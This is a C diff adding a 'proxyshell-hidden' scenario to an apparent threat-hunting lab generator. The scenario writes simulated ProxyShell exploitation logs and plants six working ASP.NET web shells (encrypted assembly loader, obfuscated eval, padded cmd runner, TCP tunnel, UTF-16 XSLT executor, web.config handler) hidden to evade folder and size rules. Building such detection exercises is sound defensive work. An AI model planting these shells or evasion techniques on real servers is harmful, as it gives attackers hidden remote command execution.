@@ -24,6 +24,7 @@ const char *const lab_scenarios[] = {
     "proxynotshell",
     "owassrf",
     "proxytoken",
+    "proxyshell-hidden",
     NULL,
 };
 
@@ -34,7 +35,7 @@ struct gen {
 	const char *dir;
 	struct rng r;
 	enum hunt_level truth[HC_COUNT];
-	char backdoors[16][512];
+	char backdoors[32][512];
 	int nbackdoors;
 	FILE *httpproxy_ecp, *httpproxy_owa, *httpproxy_ad, *iis, *ecp, *oab,
 	    *cmdlet;
@@ -124,7 +125,7 @@ static void backdoor(struct gen *g, const char *rel, const char *content,
 	file_text(g, rel, content, n);
 	snprintf(path, sizeof path, "%s/%s", g->dir, rel);
 	utimensat(AT_FDCWD, path, ts, 0);
-	if (g->nbackdoors < 16)
+	if (g->nbackdoors < 32)
 		snprintf(g->backdoors[g->nbackdoors++], 512, "%s", rel);
 }
 
@@ -550,6 +551,142 @@ static void sc_proxytoken(struct gen *g)
 	raise_truth(g, HC_33766, HL_EXPLOITED);
 }
 
+
+/* ProxyShell as real logs show it, then back doors hidden where no
+ * folder rule looks: off the drop folders, inside a shipped page, after
+ * hundreds of KB of padding, in UTF-16, in a web.config, as a handler.
+ * Only their code gives them away. */
+static void sc_proxyshell_hidden(struct gen *g)
+{
+	static const char loader[] =
+	    "<%@ Page Language=\"C#\"%><%try{string k=\"3c6e0b8a9c15224a\";"
+	    "byte[] d=System.Convert.FromBase64String(Context.Request[\"pass\"]);"
+	    "d=new System.Security.Cryptography.RijndaelManaged().CreateDecryptor("
+	    "System.Text.Encoding.Default.GetBytes(k),System.Text.Encoding."
+	    "Default.GetBytes(k)).TransformFinalBlock(d,0,d.Length);"
+	    "if(Context.Session[\"p\"]==null){Context.Session[\"p\"]=(System."
+	    "Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("
+	    "\"Load\",new System.Type[]{typeof(byte[])}).Invoke(null,new "
+	    "object[]{d});}else{object o=((System.Reflection.Assembly)Context."
+	    "Session[\"p\"]).CreateInstance(\"LY\");o.Equals(Context);}}catch{}"
+	    "%>\r\n";
+	static const char appended[] =
+	    "\r\n<script language=\"JScript\" runat=\"server\">function "
+	    "Page_Load(){ev/*x1*/al(Req<%-- --%>uest.Item[\"AppcacheVer\"],"
+	    "\"un\"+\"safe\");}</script>\r\n";
+	static const char runner[] =
+	    "<%@ Page Language=\"C#\"%><script runat=\"server\">void "
+	    "Page_Load(object s,EventArgs e){var i=new System.Diagnostics."
+	    "ProcessStartInfo(\"c\"+\"md\",\"/c \"+Request.Form[\"z\"]);i."
+	    "UseShellExecute=false;i.RedirectStandardOutput=true;Response.Write("
+	    "System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd());}"
+	    "</script>\r\n";
+	static const char tunnel[] =
+	    "<%@ WebHandler Language=\"C#\" Class=\"T\" %>\r\nusing System; "
+	    "using System.Web; using System.Net.Sockets;\r\npublic class T : "
+	    "IHttpHandler, System.Web.SessionState.IRequiresSessionState { "
+	    "public bool IsReusable { get { return false; } } public void "
+	    "ProcessRequest(HttpContext c) { var t = c.Request.Headers.Get("
+	    "\"Xkxr\").Split(':'); var s = new TcpClient(); s.Connect(t[0], "
+	    "int.Parse(t[1])); c.Application[c.Request.Headers.Get(\"Sid\")] = "
+	    "s; } }\r\n";
+	static const char xsl[] =
+	    "<%@ Page Language=\"C#\"%><%@ Import Namespace=\"System.Xml.Xsl\"%>"
+	    "<%var x=new XslCompiledTransform();x.Load(System.Xml.XmlReader."
+	    "Create(new System.IO.StringReader(System.Text.Encoding.UTF8."
+	    "GetString(Convert.FromBase64String(Request[\"d\"])))),new "
+	    "XsltSettings(true,true),null);x.Transform(System.Xml.XmlReader."
+	    "Create(new System.IO.StringReader(\"<a/>\")),null,Response.Output);"
+	    "%>\r\n";
+	static const char config[] =
+	    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<configuration>"
+	    "<system.webServer><handlers accessPolicy=\"Read, Script, Write\">"
+	    "<add name=\"cfg\" path=\"*.config\" verb=\"*\" modules=\"IsapiModule\" "
+	    "scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" "
+	    "resourceType=\"Unspecified\" /></handlers><security><requestFiltering>"
+	    "<fileExtensions><remove fileExtension=\".config\" /></fileExtensions>"
+	    "</requestFiltering></security></system.webServer></configuration>"
+	    "\r\n<!-- <% Response.Write(CreateObject(\"WScript.Shell\").Exec("
+	    "Request(\"c\")).StdOut.ReadAll()) %> -->\r\n";
+	char name[16], rel[512], *buf;
+	size_t n, pad, i;
+
+	iis_row(g->iis, "2021-08-22", "02:10:00", "POST",
+	        "/autodiscover/autodiscover.json",
+	        "@x.ru/autodiscover/autodiscover.xml?&Email=autodiscover/"
+	        "autodiscover.json%3F@x.ru&CorrelationID=<empty>;&cafeReqId="
+	        "0f1e2d3c;",
+	        "", ATTACKER_IP, "python-requests/2.25.1", 200);
+	iis_row(g->iis, "2021-08-22", "02:10:02", "POST",
+	        "/autodiscover/autodiscover.json",
+	        "@x.ru/mapi/emsmdb/?&Email=autodiscover/autodiscover.json%3F@"
+	        "x.ru&CorrelationID=<empty>;&cafeReqId=1a2b3c4d;",
+	        "", ATTACKER_IP, "python-requests/2.25.1", 200);
+	iis_row(g->iis, "2021-08-22", "02:10:05", "POST",
+	        "/autodiscover/autodiscover.json",
+	        "@x.ru/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBh"
+	        "BZG1pbmlzdHJhdG9yQGNvcnAuZXhhbXBsZQ==&Email=autodiscover/"
+	        "autodiscover.json%3F@x.ru&CorrelationID=<empty>;&cafeReqId="
+	        "5e6f7a8b;",
+	        "", ATTACKER_IP, "python-requests/2.25.1", 200);
+	raise_truth(g, HC_34473, HL_BACKDOORED);
+	raise_truth(g, HC_34523, HL_BACKDOORED);
+	if (g->cmdlet) {
+		fprintf(g->cmdlet, "2021-08-22T02:10:09.000Z "
+		                   "New-ManagementRoleAssignment -Role "
+		                   "\"Mailbox Import Export\" -User "
+		                   "\"administrator@corp.example\"\r\n");
+		fprintf(g->cmdlet, "2021-08-22T02:10:30.000Z "
+		                   "Remove-MailboxExportRequest -Identity "
+		                   "\"administrator\\MailboxExport\" "
+		                   "-Confirm:$false\r\n");
+	}
+	rand_name(g, name, 7);
+	snprintf(rel, sizeof rel, "inetpub/wwwroot/portal/scripts/%s.aspx",
+	         name);
+	backdoor(g, rel, loader, sizeof loader - 1, 1629598300);
+	/* A shipped page with code added at its end. */
+	n = sizeof logon_aspx - 1 + sizeof appended - 1;
+	buf = malloc(n + 1);
+	if (buf) {
+		memcpy(buf, logon_aspx, sizeof logon_aspx - 1);
+		memcpy(buf + sizeof logon_aspx - 1, appended, sizeof appended);
+		backdoor(g, EXCH "/FrontEnd/HttpProxy/owa/auth/logon.aspx", buf,
+		         n, 1629598400);
+		free(buf);
+	}
+	/* Past any size limit: 700 KB of page, then the code. */
+	pad = 700 * 1024;
+	buf = malloc(pad + sizeof runner);
+	if (buf) {
+		static const char row[] =
+		    "<tr><td class=\"help\">Help topic</td><td>See the "
+		    "administrator guide.</td></tr>\r\n";
+		for (i = 0; i < pad; i++)
+			buf[i] = row[i % (sizeof row - 1)];
+		memcpy(buf + pad, runner, sizeof runner);
+		backdoor(g, EXCH "/ClientAccess/ecp/Help/contents.aspx", buf,
+		         pad + sizeof runner - 1, 1629598500);
+		free(buf);
+	}
+	backdoor(g, EXCH "/FrontEnd/HttpProxy/ecp/Proxy.ashx", tunnel,
+	         sizeof tunnel - 1, 1629598600);
+	/* UTF-16LE with a byte-order mark. */
+	n = 2 + 2 * (sizeof xsl - 1);
+	buf = calloc(1, n);
+	if (buf) {
+		buf[0] = (char)0xff;
+		buf[1] = (char)0xfe;
+		for (i = 0; i + 1 < sizeof xsl; i++)
+			buf[2 + 2 * i] = xsl[i];
+		backdoor(g, EXCH "/ClientAccess/Owa/auth/health.aspx", buf, n,
+		         1629598700);
+		free(buf);
+	}
+	backdoor(g, "inetpub/wwwroot/uploads/web.config", config,
+	         sizeof config - 1, 1629598800);
+}
+
 int lab_host_write(const struct host_opts *o, const char *truth_path)
 {
 	struct gen g;
@@ -568,6 +705,7 @@ int lab_host_write(const struct host_opts *o, const char *truth_path)
 	    {"proxynotshell", sc_proxynotshell},
 	    {"owassrf", sc_owassrf},
 	    {"proxytoken", sc_proxytoken},
+	    {"proxyshell-hidden", sc_proxyshell_hidden},
 	};
 
 	/* Check the names before writing anything. */
